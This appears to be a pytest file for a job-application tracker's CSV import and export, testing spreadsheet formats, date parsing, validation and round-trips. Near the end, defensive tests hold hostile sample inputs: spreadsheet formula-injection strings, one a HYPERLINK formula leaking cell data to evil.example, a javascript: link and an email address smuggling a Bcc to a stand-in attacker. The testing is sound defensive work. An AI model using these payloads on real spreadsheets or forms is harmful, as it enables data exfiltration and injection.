"""Spreadsheets in and out: real-world CSV files import, and a bad one changes nothing."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from followup.app import applications
from followup.app.context import Env, bootstrap
from followup.app.transfer import export_csv, export_json, import_csv
from followup.domain import model
from followup.errors import ImportFailed, InvalidInput
from followup.store import records

DATA = Path(__file__).parent / "data"
NOW = datetime(2026, 11, 20, 9, 0, tzinfo=ZoneInfo("Europe/Paris"))
HEADER = "Company,Role,Applied,Status\n"


@pytest.fixture
def env(tmp_path: Path, new_database) -> Iterator[Env]:
    config = tmp_path / "settings.toml"
    config.write_text('timezone = "Europe/Paris"\ncountry = "FR"\n', encoding="utf-8")
    environment = bootstrap(db_path=new_database("f"), config_path=str(config), clock=lambda: NOW)
    yield environment
    environment.close()


def exported_applications(env: Env) -> dict[str, dict[str, Any]]:
    return {a["company"]: a for a in export_json(env)["applications"]}


def problems_of(env: Env, text: str, **options: Any) -> list[tuple[str, str]]:
    before = len(records.list_applications(env.store))
    with pytest.raises(ImportFailed) as failure:
        import_csv(env, text.encode(), **options)
    assert len(records.list_applications(env.store)) == before
    return failure.value.problems


# -- real spreadsheets --------------------------------------------------------------------------


def test_a_google_sheets_tracker_imports(env):
    report = import_csv(env, (DATA / "google_sheets_tracker.csv").read_bytes())
    assert report.counts == {"contacts": 2, "applications": 8, "interviews": 0}
    assert report.warnings == [
        'Rows 2, 4 are at an interview stage in the file ("Interviewing", "Phone Screen") but no interview date: '
        "they were added to Interviewing without a day, with the stage in the notes. "
        "Add the interview on the application's page when you know its date."
    ]
    apps = exported_applications(env)
    assert {name: a["status"] for name, a in apps.items()} == {
        "ACME Corp": "active",
        "Initech": "rejected",
        "Globex Corporation": "active",
        # Not applied for yet: on the wishlist, where nothing is followed up.
        "Umbrella Corp": "wishlist",
        "Hooli": "closed_no_response",
        "Stark Industries": "offer",
        "Wayne Enterprises": "withdrawn",
        "Dunder Mifflin": "active",
    }
    assert apps["ACME Corp"]["notes"] == (
        "Referred by Tom, follow up after Thanksgiving\nStage in the file: Phone Screen"
    )
    stark = next(a for a in records.list_applications(env.store) if a.company == "Stark Industries")
    assert stark.salary == "$110,000"
    # 10/28/2026 can only be month first, so the whole column is read that way.
    assert apps["Initech"]["applied_on"] == "2026-10-02"
    assert apps["ACME Corp"]["created_at"] == "2026-10-28T00:00:00+01:00"
    assert apps["Globex Corporation"]["notes"] == (
        "Panel on Friday:\n- SQL test\n- meet the team\nStage in the file: Interviewing"
    )
    # Zoë recruits for two of them: one contact, both applications through a recruiter.
    assert apps["ACME Corp"]["recruiter_id"] == apps["Globex Corporation"]["recruiter_id"] == 1
    assert apps["ACME Corp"]["source"] == "recruiter"
    zoe = export_json(env)["contacts"][0]
    assert (zoe["name"], zoe["email"], zoe["role"], zoe["organisation"]) == (
        "Zoë O'Brien",
        "zoe@talent.example",
        "recruiter",
        None,
    )


def test_a_european_excel_file_with_semicolons_and_day_first_dates_imports(env):
    report = import_csv(env, (DATA / "excel_semicolon_eu.csv").read_bytes())
    assert report.counts == {"contacts": 3, "applications": 4, "interviews": 0}
    assert len(report.warnings) == 1
    assert report.warnings[0].startswith("Row 2 is at an interview stage")
    apps = exported_applications(env)
    assert apps["Société Générale"]["applied_on"] == "2026-11-02"
    assert apps["Ørsted A/S"]["applied_on"] == "2026-11-04"
    assert apps["Müller & Söhne GmbH"]["notes"] == "Ansprechpartner: Herr Müller; Rückmeldung bis 15.11."
    assert apps["Société Générale"]["job_url"] == "https://careers.societegenerale.com/job/123"
    amelie = next(c for c in export_json(env)["contacts"] if c["name"] == "Amélie Poulain")
    assert (amelie["email"], amelie["role"], amelie["organisation"]) == (
        "amelie@sg.example",
        "hiring_manager",
        "Société Générale",
    )
    assert apps["L'Oréal"]["status"] == "closed_no_response"


def test_a_file_with_a_byte_order_mark_and_crlf_imports(env):
    report = import_csv(env, (DATA / "with_bom.csv").read_bytes())
    assert report.counts == {"contacts": 0, "applications": 4, "interviews": 0}
    assert [w[:40] for w in report.warnings] == ["Row 3 is at an interview stage in the fi"]
    apps = exported_applications(env)
    assert apps["Zalando SE"]["notes"] == "Found via a post by the hiring manager\nSource: LinkedIn"
    assert apps["Spotify"]["source"] == "recruiter"
    assert apps["Nestlé"]["status"] == "offer"
    assert apps["Nestlé"]["notes"] == "Offer: 62k, answer by 20 Nov"


def test_text_with_a_bom_imports_too(env):
    import_csv(env, "\ufeffCompany;Role\nACME;Analyst\n")
    assert list(exported_applications(env)) == ["ACME"]


def test_imported_applications_are_on_the_agenda_path(env):
    import_csv(env, (DATA / "google_sheets_tracker.csv").read_bytes())
    stark = next(a for a in records.list_applications(env.store) if a.company == "Stark Industries")
    assert stark.status is model.ApplicationStatus.OFFER
    # A recruiter-sourced application closed without a known date asks for no thank-you yet.
    assert applications.show(env, stark.id).upcoming == []


def test_a_dry_run_writes_nothing(env):
    report = import_csv(env, (DATA / "excel_semicolon_eu.csv").read_bytes(), dry_run=True)
    assert report.counts["applications"] == 4
    assert records.list_applications(env.store) == []
    assert records.list_contacts(env.store) == []


# -- dates -------------------------------------------------------------------------------------


def test_ambiguous_dates_ask_for_iso_or_an_order(env):
    text = HEADER + "A,Analyst,03/04/2026,applied\nB,Analyst,04/04/2026,applied\nC,Analyst,05/06/2026,applied\n"
    problems = problems_of(env, text)
    assert [where for where, _ in problems] == ['row 2, column "Applied"', 'row 4, column "Applied"']
    assert "could be day/month or month/day" in problems[0][1]
    assert "--dates dmy" in problems[0][1]
    import_csv(env, text, dates="dmy")
    assert exported_applications(env)["A"]["applied_on"] == "2026-04-03"


def test_one_unambiguous_date_settles_the_column(env):
    import_csv(env, HEADER + "A,Analyst,03/04/2026,applied\nB,Analyst,25/04/2026,applied\n")
    assert exported_applications(env)["A"]["applied_on"] == "2026-04-03"


def test_a_column_mixing_both_orders_is_a_problem(env):
    problems = problems_of(env, HEADER + "A,Analyst,13/04/2026,applied\nB,Analyst,04/13/2026,applied\n")
    assert problems == [
        (
            'row 3, column "Applied"',
            '"04/13/2026" (row 3) puts the month first but "13/04/2026" (row 2) the day: the column mixes '
            "both orders, so write it as YYYY-MM-DD, e.g. 2026-11-20",
        )
    ]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("2026-11-03", date(2026, 11, 3)),
        ("2026/11/03", date(2026, 11, 3)),
        ("2026-11-03 14:05:00", date(2026, 11, 3)),
        ("3.11.2026", date(2026, 11, 3)),
        ("3 Nov 2026", date(2026, 11, 3)),
        ("November 3, 2026", date(2026, 11, 3)),
        ("03/03/2026", date(2026, 3, 3)),
    ],
)
def test_date_forms(env, cell, expected):
    import_csv(env, f'{HEADER}A,Analyst,"{cell}",applied\n')
    assert exported_applications(env)["A"]["applied_on"] == expected.isoformat()


# -- every problem, and nothing written ------------------------------------------------------------


def test_every_problem_of_a_bad_spreadsheet_is_listed_by_row_and_column(env):
    import_csv(env, (DATA / "with_bom.csv").read_bytes())  # some data that must stay as it is
    text = (
        "Company;Position;Date applied;Stage\n"
        "ACME;Analyst;2026-11-01;maybe\n"
        ";Analyst;2026-11-02;applied\n"
        "Globex;;31.02.2026;applied\n"
        "Initech;Analyst;next week;rejected\n"
        "Hooli;Analyst;2027-01-05;applied\n"
        "Wayne;Analyst;2026-11-01;applied;extra\n"
    )
    assert problems_of(env, text) == [
        ('row 3, column "Company"', "is empty: every application needs its company"),
        ('row 4, column "Position"', "is empty: every application needs its role"),
        ('row 4, column "Date applied"', '"31.02.2026" is not a real date (day is out of range for month): '
         "check the day and month"),
        ('row 6, column "Date applied"', "2027-01-05 is in the future: check the year, or the day and month"),
        ("row 7", 'has 5 cells but the header has 4: a cell probably holds a ";" without quotes around it'),
    ]  # fmt: skip
    assert len(records.list_applications(env.store)) == 4


def test_missing_columns_are_named(env):
    problems = problems_of(env, "Employer,Salary\nACME,50k\n")
    assert problems == [
        (
            "header (row 1)",
            'no column is read as the role: choose which one it is, or name one "Role" (or Position, Job Title, Title)',
        )
    ]


def test_a_second_column_for_the_same_field_is_kept_in_the_notes(env):
    report = import_csv(env, "Company,Employer,Role\nACME,ACME Inc,Analyst\n")
    assert report.warnings == ['Kept in the notes, as “Column: value”: "Employer".']
    assert exported_applications(env)["ACME"]["notes"] == "Employer: ACME Inc"


def test_two_columns_chosen_for_the_same_field_are_a_problem(env):
    problems = problems_of(env, "Company,Employer,Role\nACME,ACME Inc,Analyst\n", columns={"Employer": "company"})
    assert problems == [("header (row 1)", '"Company" and "Employer" are both read as the company: choose one')]


def test_a_file_that_is_not_utf8_says_how_to_save_it(env):
    with pytest.raises(ImportFailed) as failure:
        import_csv(env, "Company;Role\nSociété;Analyste\n".encode("cp1252"))
    assert failure.value.problems == [("line 2", "byte 0xe9 is not UTF-8")]
    assert "CSV UTF-8" in (failure.value.hint or "")


def test_an_empty_file_is_refused(env):
    with pytest.raises(ImportFailed, match="empty"):
        import_csv(env, b"\n\n")


def test_an_unknown_date_order_is_refused(env):
    with pytest.raises(InvalidInput):
        import_csv(env, HEADER, dates="ymd")


def test_importing_the_same_rows_again_leaves_them_out(env):
    import_csv(env, "Company,Role\nACME,Analyst\n")
    report = import_csv(env, "Company,Role\nACME,Analyst\nGlobex,Analyst\n")
    assert report.warnings == [
        "Row 2 (ACME, Analyst) is already here as an application you have, with the same company, role and date: "
        "it was left out."
    ]
    assert sorted(exported_applications(env)) == ["ACME", "Globex"]


# -- export ------------------------------------------------------------------------------------


def test_the_csv_export_has_one_row_per_application_with_what_comes_next(env):
    zoe = applications.add_contact(env, applications.NewContact(name="Zoë O'Brien", role=model.ContactRole.RECRUITER))
    app = applications.add_application(
        env,
        applications.NewApplication(
            company="Société Générale", role="Analyste", source=model.Source.RECRUITER, recruiter_id=zoe.id
        ),
    )
    applications.add_interview(
        env,
        app.id,
        applications.NewInterview(
            starts_at=datetime(2026, 11, 25, 14, 0, tzinfo=ZoneInfo("Europe/Paris")), participants=[]
        ),
    )
    applications.log_touchpoint(
        env,
        app.id,
        applications.NewTouchpoint(
            direction=model.Direction.RECEIVED,
            channel=model.Channel.EMAIL,
            contact_id=zoe.id,
            outcome=model.Outcome.INFO_REQUEST,
            occurred_at=datetime(2026, 11, 19, 8, 30, tzinfo=ZoneInfo("UTC")),
        ),
    )
    applications.add_application(
        env, applications.NewApplication(company="Initech", role="Analyst", status=model.ApplicationStatus.REJECTED)
    )
    rows = list(csv.DictReader(io.StringIO(export_csv(env))))
    assert list(rows[0]) == [
        "id",
        "company",
        "role",
        "status",
        "source",
        "applied_on",
        "created_at",
        "closed_at",
        "job_url",
        "location",
        "salary",
        "excitement",
        "tags",
        "last_contact",
        "next_action",
        "next_action_due",
        "interviews",
        "people",
        "notes",
        "description",
    ]
    first, second = rows
    assert first["company"] == "Société Générale"
    assert first["last_contact"] == "2026-11-19 09:30"
    assert first["next_action"] == "respond (Zoë O'Brien)"  # before preparing for the interview
    assert first["next_action_due"] == "2026-11-19 09:30"
    assert second["closed_at"] == "2026-11-20 09:00"
    assert second["next_action"] == ""


def test_the_csv_export_reads_back(env, tmp_path, new_database):
    import_csv(env, (DATA / "google_sheets_tracker.csv").read_bytes())
    exported = export_csv(env)
    config = tmp_path / "settings.toml"
    other = bootstrap(db_path=new_database("other"), config_path=str(config), clock=lambda: NOW)
    report = import_csv(other, exported)
    assert report.counts["applications"] == 8
    assert report.warnings[0].startswith('Kept in the notes, as “Column: value”: "id", "created_at"')
    before = {name: (a["status"], a["applied_on"], a["source"]) for name, a in exported_applications(env).items()}
    after = {name: (a["status"], a["applied_on"], a["source"]) for name, a in exported_applications(other).items()}
    assert after == before
    other.close()


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_the_csv_export_writes_formulas_as_text_and_they_read_back_as_written(env, tmp_path, new_database):
    # The attack: a company or role named like a formula runs as one when the export is opened.
    for n, formula in enumerate(FORMULAS):
        applications.add_application(env, applications.NewApplication(company=f"{formula} {n}", role=formula))
    stored = sorted((a["company"], a["role"]) for a in export_json(env)["applications"])
    exported = export_csv(env)
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (column, cell)
    assert sorted(row["role"] for row in rows) == sorted("'" + role for _company, role in stored)
    config = str(tmp_path / "settings.toml")
    other = bootstrap(db_path=new_database("other"), config_path=config, clock=lambda: NOW)
    import_csv(other, exported)
    assert sorted((a["company"], a["role"]) for a in export_json(other)["applications"]) == stored
    other.close()


def test_an_apostrophe_before_ordinary_text_is_kept_on_import(env):
    import_csv(env, (HEADER + "'Quoted Ltd,'-,2026-11-02,applied\n").encode())
    (app,) = export_json(env)["applications"]
    assert (app["company"], app["role"]) == ("'Quoted Ltd", "-")


def test_a_sheet_is_held_to_the_same_field_rules_as_every_other_door(env):
    # A smuggled Bcc in a contact's address and a javascript: job link, through a spreadsheet.
    text = (
        "Company,Position,Status,Link,Contact\n"
        'ACME,Analyst,Applied,javascript:alert(1),"Ann <ann@acme.example?bcc=spy%40evil.example>"\n'
    )
    where = [place for place, _message in problems_of(env, text)]
    assert len(where) == 2
    assert any("Link" in place for place in where)
    assert any("Contact" in place for place in where)
